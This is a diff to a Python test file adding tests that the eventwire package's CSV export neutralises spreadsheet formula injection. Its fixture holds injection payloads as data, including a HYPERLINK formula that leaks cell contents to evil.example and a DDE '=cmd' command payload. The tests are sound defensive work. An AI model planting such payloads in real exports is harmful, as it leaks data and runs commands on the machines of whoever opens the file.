@@ -13,8 +13,10 @@ from eventwire.errors import EventwireError
 from eventwire.export import (
     ACLED_COLUMNS,
     EVENT_CSV_COLUMNS,
+    FORMULA_STARTS,
     TALLY_CSV_COLUMNS,
     ExportFormatError,
+    csv_cell,
     export_documents,
     export_events,
     export_tallies,
@@ -332,3 +334,80 @@ def test_tallies_as_csv_split_the_value_and_keep_the_breakdown_as_json() -> None
 def test_tallies_have_no_geojson() -> None:
     with pytest.raises(ExportFormatError, match="tallies have no geometry"):
         export_tallies([a_tally()], "geojson", io.StringIO())
+
+
+# --- CSV cells a spreadsheet would run ------------------------------------------------------------------
+
+
+def hostile_event() -> Event:
+    """Text fields an article could fill with spreadsheet formulas; coordinates that are negative."""
+    return Event(
+        event_id="ev-formula",
+        event_type="Protests",
+        sub_event_type="Peaceful protest",
+        event_date="2024-03-05",
+        actor1='=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        actor2="+1+2",
+        assoc_actor_1=["-2+3", "@SUM(A1:A9)"],
+        location="\tTab Town",
+        location_as_written="\rCarriage Bay",
+        country="Testland",
+        latitude=-33.9,
+        longitude=-3.2,
+        fatalities=Range(1, 2, 3),
+        confidence=0.5,
+        sources=[Evidence("doc-f", "=cmd|' /C calc'!A0", None, None, "Marchers gathered at noon.", 0, 26)],
+    )
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=1", "a=1"),
+        (" =1", " =1"),
+        ("", ""),
+        (None, ""),
+        (-3.2, -3.2),
+        (-4, -4),
+        (0.5, 0.5),
+    ],
+)
+def test_csv_cell_neutralises_formula_text_only(value: object, cell: object) -> None:
+    assert csv_cell(value) == cell
+
+
+def test_event_csv_cells_never_start_a_formula_and_numbers_stay_numbers() -> None:
+    out = io.StringIO()
+    export_events([hostile_event(), located_event()], "csv", out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    row = rows[0]
+    assert row["actor1"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert row["actor2"] == "'+1+2"
+    assert row["assoc_actor_1"] == "'-2+3; @SUM(A1:A9)"  # the cell starts with '-', the rest is inside it
+    assert row["location"] == "'\tTab Town"
+    assert row["location_as_written"] == "'\rCarriage Bay"
+    assert row["source"] == "'=cmd|' /C calc'!A0"
+    assert (row["latitude"], row["longitude"], row["fatalities"]) == ("-33.9", "-3.2", "2")
+    for r in rows:
+        for column, cell in r.items():
+            assert not cell.startswith(FORMULA_STARTS) or column in ("latitude", "longitude"), (column, cell)
+    assert rows[1]["actor1"] == "Military Forces of Iraq"  # ordinary text is untouched
+
+
+def test_document_and_tally_csv_cells_are_neutralised_too() -> None:
+    out = io.StringIO()
+    export_documents([{"document_id": "d-1", "title": "=2*3", "text": "-- a dash-led line"}], "csv", out)
+    (row,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
+    assert (row["title"], row["text"]) == ("'=2*3", "'-- a dash-led line")
+    tally = a_tally()
+    tally.metric = "@attacks"
+    out = io.StringIO()
+    export_tallies([tally], "csv", out)
+    (trow,) = csv.DictReader(io.StringIO(out.getvalue()))
+    assert trow["metric"] == "'@attacks"
